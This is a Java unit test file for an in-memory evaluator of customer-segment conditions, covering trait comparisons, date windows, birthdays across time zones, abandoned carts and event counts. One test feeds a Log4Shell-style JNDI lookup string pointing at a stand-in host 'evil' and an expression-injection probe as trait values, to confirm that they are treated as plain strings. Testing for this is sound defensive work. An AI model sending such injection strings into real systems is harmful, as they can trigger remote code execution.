package dev.kairos.segment.condition;

import static dev.kairos.segment.condition.ConditionParserTest.valid;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** One test per kind of condition: what holds, the reasons, and when the clock changes it. */
class InMemoryEvaluatorTest {
  private static final Instant NOW = Instant.parse("2026-06-15T10:00:00Z");
  private static final ZoneId WORKSPACE = ZoneId.of("Europe/London");

  private final Map<String, Condition> segments = new HashMap<>();
  private final SegmentDefinitions definitions = key -> Optional.ofNullable(segments.get(key));
  private final InMemoryEvaluator evaluator = new InMemoryEvaluator(definitions, WORKSPACE);

  private ObjectNode traits = JsonNodeFactory.instance.objectNode();
  private final Map<ProfileField, Value> fields = new HashMap<>();
  private final Map<String, Behaviour.Summary> summaries = new HashMap<>();
  private final List<Behaviour.Recorded> events = new ArrayList<>();
  private Set<String> kinds = Set.of();
  private ZoneId zone;

  @Test
  void a_string_trait_is_compared_as_written_and_a_missing_one_is_not_equal() {
    traits.put("city", "York");
    assertThat(member("{\"trait\": \"city\", \"op\": \"eq\", \"value\": \"York\"}")).isTrue();
    assertThat(member("{\"trait\": \"city\", \"op\": \"eq\", \"value\": \"york\"}")).isFalse();
    assertThat(member("{\"trait\": \"city\", \"op\": \"starts_with\", \"value\": \"Yo\"}"))
        .isTrue();
    assertThat(member("{\"trait\": \"city\", \"op\": \"contains\", \"value\": \"or\"}")).isTrue();
    assertThat(member("{\"trait\": \"town\", \"op\": \"neq\", \"value\": \"York\"}")).isTrue();
    assertThat(member("{\"trait\": \"town\", \"op\": \"not_exists\"}")).isTrue();
    assertThat(member("{\"trait\": \"city\", \"op\": \"in\", \"value\": [\"Leeds\", \"York\"]}"))
        .isTrue();
  }

  @Test
  void a_number_trait_compares_numbers_only_and_a_string_that_looks_like_one_is_not_a_number() {
    traits.put("age", 18.5);
    assertThat(member("{\"trait\": \"age\", \"op\": \"gt\", \"value\": 18}")).isTrue();
    assertThat(member("{\"trait\": \"age\", \"op\": \"between\", \"value\": [18.5, 19]}")).isTrue();
    traits.put("age", "40");
    assertThat(member("{\"trait\": \"age\", \"op\": \"gt\", \"value\": 18}")).isFalse();
    assertThat(member("{\"trait\": \"age\", \"op\": \"exists\"}")).isTrue();
  }

  @Test
  void a_boolean_trait() {
    traits.put("vip", true);
    assertThat(member("{\"trait\": \"vip\", \"op\": \"eq\", \"value\": true}")).isTrue();
    assertThat(member("{\"trait\": \"vip\", \"op\": \"neq\", \"value\": true}")).isFalse();
  }

  @Test
  void a_hostile_looking_trait_value_is_compared_as_a_plain_string() {
    traits.put("city", "${jndi:ldap://evil/a}");
    assertThat(
            member("{\"trait\": \"city\", \"op\": \"eq\", \"value\": \"${jndi:ldap://evil/a}\"}"))
        .isTrue();
    traits.put("city", "49");
    assertThat(member("{\"trait\": \"city\", \"op\": \"eq\", \"value\": \"#{7*7}\"}")).isFalse();
  }

  @Test
  void a_date_trait_within_the_last_days_leaves_exactly_when_the_window_passes_it() {
    traits.put("signup", "2026-06-10T08:00:00+02:00");
    Verdict verdict =
        verdict("{\"trait\": \"signup\", \"op\": \"within_last_days\", \"value\": 7}");
    assertThat(verdict.member()).isTrue();
    assertThat(verdict.nextChange()).contains(Instant.parse("2026-06-17T06:00:00Z"));
    assertThat(
            evaluator
                .evaluate(
                    parse("{\"trait\": \"signup\", \"op\": \"within_last_days\", \"value\": 7}"),
                    person(),
                    Instant.parse("2026-06-17T06:00:00Z"))
                .member())
        .isFalse();
  }

  @Test
  void a_birthday_comes_in_the_persons_own_time_zone() {
    traits.put("birthday", "1990-06-18");
    String inThreeDays =
        "{\"trait\": \"birthday\", \"op\": \"anniversary_within_days\", \"value\": 2}";
    zone = ZoneId.of("Pacific/Kiritimati"); // UTC+14: already 16 June there
    Verdict kiritimati = verdict(inThreeDays);
    assertThat(kiritimati.member()).isTrue();
    assertThat(kiritimati.nextChange())
        .contains(LocalDate.of(2026, 6, 19).atStartOfDay(zone).toInstant());
    zone = ZoneId.of("America/Los_Angeles"); // still 15 June
    Verdict losAngeles = verdict(inThreeDays);
    assertThat(losAngeles.member()).isFalse();
    assertThat(losAngeles.nextChange())
        .contains(LocalDate.of(2026, 6, 16).atStartOfDay(zone).toInstant());
  }

  @Test
  void a_29_february_birthday_is_on_28_february_in_other_years() {
    traits.put("birthday", "2000-02-29");
    zone = ZoneId.of("UTC");
    Condition birthdayToday =
        parse("{\"trait\": \"birthday\", \"op\": \"anniversary_within_days\", \"value\": 0}");
    assertThat(
            evaluator
                .evaluate(birthdayToday, person(), Instant.parse("2027-02-28T12:00:00Z"))
                .member())
        .isTrue();
    assertThat(
            evaluator
                .evaluate(birthdayToday, person(), Instant.parse("2028-02-28T12:00:00Z"))
                .member())
        .isFalse();
    assertThat(
            evaluator
                .evaluate(birthdayToday, person(), Instant.parse("2028-02-29T12:00:00Z"))
                .member())
        .isTrue();
  }

  @Test
  void an_abandoned_cart_flips_an_hour_after_its_last_change() {
    Instant changed = NOW.minus(Duration.ofMinutes(20));
    fields.put(ProfileField.CART_UPDATED_AT, new Value.Moment(changed, changed.toString()));
    fields.put(ProfileField.CART_ITEMS, new Value.Number(BigDecimal.valueOf(2)));
    Verdict verdict =
        verdict(
            "{\"and\": [{\"field\": \"cart_items\", \"op\": \"gt\", \"value\": 0},"
                + " {\"field\": \"cart_updated_at\", \"op\": \"more_than_hours_ago\", \"value\": 1}]}");
    assertThat(verdict.member()).isFalse();
    assertThat(verdict.nextChange()).contains(changed.plus(Duration.ofHours(1)));
    assertThat(verdict.reasons())
        .extracting(Reason::path, Reason::held)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple("$.and[0]", true),
            org.assertj.core.groups.Tuple.tuple("$.and[1]", false));
    assertThat(verdict.reasons().get(0).seen().asInt()).isEqualTo(2);
  }

  @Test
  void days_since_the_last_order_changes_only_where_it_crosses_the_threshold() {
    Instant last = NOW.minus(Duration.ofDays(30)).minus(Duration.ofHours(3));
    fields.put(ProfileField.LAST_ORDER_AT, new Value.Moment(last, last.toString()));
    Verdict verdict =
        verdict("{\"field\": \"days_since_last_order\", \"op\": \"gt\", \"value\": 90}");
    assertThat(verdict.member()).isFalse();
    assertThat(verdict.reasons().get(0).seen().asInt()).isEqualTo(30);
    assertThat(verdict.nextChange()).contains(last.plus(Duration.ofDays(91)));
    fields.clear();
    assertThat(member("{\"field\": \"days_since_last_order\", \"op\": \"gt\", \"value\": 90}"))
        .isFalse();
    assertThat(member("{\"field\": \"days_since_last_order\", \"op\": \"not_exists\"}")).isTrue();
  }

  @Test
  void performed_counts_events_by_utc_day_in_the_window_and_says_when_the_oldest_leaves() {
    counts(
        "Product Viewed",
        Map.of(
            LocalDate.of(2026, 5, 16),
            1L,
            LocalDate.of(2026, 6, 1),
            2L,
            LocalDate.of(2026, 4, 1),
            5L));
    String viewedThrice =
        "{\"performed\": \"Product Viewed\", \"count\": {\"op\": \"gte\", \"value\": 3}, \"within_days\": 30}";
    Verdict verdict = verdict(viewedThrice);
    assertThat(verdict.member()).isTrue();
    assertThat(verdict.reasons().get(0).seen().asLong()).isEqualTo(3);
    assertThat(verdict.nextChange()).contains(Instant.parse("2026-06-16T00:00:00Z"));
    assertThat(member("{\"performed\": \"Product Viewed\"}")).isTrue();
    assertThat(
            member(
                "{\"performed\": \"Product Viewed\", \"count\": {\"op\": \"eq\", \"value\": 8}}"))
        .isTrue();
    assertThat(
            member(
                "{\"performed\": \"Product Viewed\", \"between\": [\"2026-04-01\", \"2026-05-16\"],"
                    + " \"count\": {\"op\": \"eq\", \"value\": 6}}"))
        .isTrue();
  }

  @Test
  void a_window_of_hours_counts_events_to_the_instant_and_says_when_the_first_leaves_it() {
    ObjectNode none = JsonNodeFactory.instance.objectNode();
    events.add(new Behaviour.Recorded("Product Viewed", NOW.minus(Duration.ofHours(23)), none));
    events.add(new Behaviour.Recorded("Product Viewed", NOW.minus(Duration.ofHours(2)), none));
    events.add(new Behaviour.Recorded("Product Viewed", NOW.minus(Duration.ofHours(25)), none));
    Verdict verdict =
        verdict(
            "{\"performed\": \"Product Viewed\", \"count\": {\"op\": \"gte\", \"value\": 2}, \"within_hours\": 24}");
    assertThat(verdict.member()).isTrue();
    assertThat(verdict.reasons().get(0).seen().asInt()).isEqualTo(2);
    assertThat(verdict.nextChange()).contains(NOW.plus(Duration.ofHours(1)));
  }

  @Test
  void has_not_performed_is_a_count_of_zero() {
    String noOrder =
        "{\"performed\": \"Order Completed\", \"count\": {\"op\": \"eq\", \"value\": 0}, \"within_days\": 30}";
    assertThat(member(noOrder)).isTrue();
    counts("Order Completed", Map.of(LocalDate.of(2026, 6, 14), 1L));
    assertThat(member(noOrder)).isFalse();
  }

  @Test
  void performed_with_a_property_of_any_product_counts_only_matching_events() {
    ObjectNode shoes = JsonNodeFactory.instance.objectNode();
    shoes.putArray("products").addObject().put("category", "Hats").put("price", 5);
    ((com.fasterxml.jackson.databind.node.ArrayNode) shoes.get("products"))
        .addObject()
        .put("category", "Shoes");
    ObjectNode hats = JsonNodeFactory.instance.objectNode();
    hats.putArray("products").addObject().put("category", "Hats");
    events.add(new Behaviour.Recorded("Order Completed", NOW.minus(Duration.ofDays(2)), shoes));
    events.add(new Behaviour.Recorded("Order Completed", NOW.minus(Duration.ofDays(1)), hats));
    String boughtShoes =
        "{\"performed\": \"Order Completed\", \"where\": [{\"property\": \"products[].category\", \"op\": \"eq\", \"value\": \"Shoes\"}], \"count\": {\"op\": \"eq\", \"value\": 1}}";
    assertThat(member(boughtShoes)).isTrue();
    String noShoes =
        "{\"performed\": \"Order Completed\", \"where\": [{\"property\": \"products[].category\", \"op\": \"neq\", \"value\": \"Shoes\"}], \"count\": {\"op\": \"eq\", \"value\": 1}}";
    assertThat(member(noShoes)).isTrue();
  }

  @Test
  void first_and_last_performed_compare_dates() {
    Instant first = Instant.parse("2025-01-02T03:04:05Z");
    Instant last = NOW.minus(Duration.ofDays(100));
    summaries.put("Order Completed", new Behaviour.Summary(4, first, last, new TreeMap<>()));
    assertThat(
            member(
                "{\"last_performed\": \"Order Completed\", \"op\": \"more_than_days_ago\", \"value\": 90}"))
        .isTrue();
    assertThat(
            member(
                "{\"first_performed\": \"Order Completed\", \"op\": \"before\", \"value\": \"2025-06-01\"}"))
        .isTrue();
    assertThat(member("{\"last_performed\": \"Signed Up\", \"op\": \"not_exists\"}")).isTrue();
  }

  @Test
  void a_segment_condition_is_the_condition_of_that_segment() {
    segments.put("has_email", new Condition.HasIdentifier("email"));
    kinds = Set.of("email");
    assertThat(member("{\"segment\": \"has_email\"}")).isTrue();
    assertThat(member("{\"not\": {\"segment\": \"has_email\"}}")).isFalse();
    kinds = Set.of("phone");
    assertThat(member("{\"segment\": \"has_email\"}")).isFalse();
    assertThat(member("{\"identifier\": \"phone\"}")).isTrue();
  }

  @Test
  void consent_holds_for_nobody_until_the_channels_record_it() {
    assertThat(member("{\"consent\": \"email\", \"topic\": \"promotions\"}")).isFalse();
    assertThat(member("{\"not\": {\"consent\": \"email\"}}")).isTrue();
  }

  @Test
  void a_field_without_a_value_meets_only_not_exists_and_the_negations() {
    assertThat(member("{\"field\": \"rfm_cell\", \"op\": \"eq\", \"value\": \"CHAMPIONS\"}"))
        .isFalse();
    assertThat(member("{\"field\": \"rfm_cell\", \"op\": \"not_in\", \"value\": [\"CHAMPIONS\"]}"))
        .isTrue();
    assertThat(member("{\"field\": \"p_alive\", \"op\": \"lt\", \"value\": 0.5}")).isFalse();
  }

  private void counts(String event, Map<LocalDate, Long> daily) {
    TreeMap<LocalDate, Long> days = new TreeMap<>(daily);
    long total = days.values().stream().mapToLong(Long::longValue).sum();
    summaries.put(
        event,
        new Behaviour.Summary(
            total,
            days.firstKey().atStartOfDay(java.time.ZoneOffset.UTC).toInstant(),
            days.lastKey().atStartOfDay(java.time.ZoneOffset.UTC).toInstant(),
            days));
  }

  private Condition parse(String json) {
    return valid(json, definitions);
  }

  private boolean member(String json) {
    return verdict(json).member();
  }

  private Verdict verdict(String json) {
    return evaluator.evaluate(parse(json), person(), NOW);
  }

  private Person person() {
    return new Person(
        new UUID(0, 1), zone, fields, traits, kinds, new Behaviour(summaries, events));
  }
}
